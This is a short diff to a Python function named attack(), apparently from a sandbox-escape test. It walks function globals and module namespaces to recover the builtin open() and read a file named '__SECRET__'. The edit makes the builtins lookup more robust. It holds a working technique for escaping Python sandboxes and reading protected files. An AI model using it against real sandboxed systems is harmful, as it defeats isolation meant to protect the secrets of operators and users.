@@ -14,8 +14,8 @@ def attack():
     for function in reached:
         spaces = [function.__globals__, vars(sys.modules.get(function.__module__, sys))]
         for space in spaces:
-            opened = space["__builtins__"]
-            opened = opened["open"] if isinstance(opened, dict) else opened.open
+            opened = space.get("__builtins__", {})
+            opened = opened.get("open") if isinstance(opened, dict) else opened.open
             if file := attempt(opened, "__SECRET__"):
                 got(file.read())
             for name, value in list(space.items()):
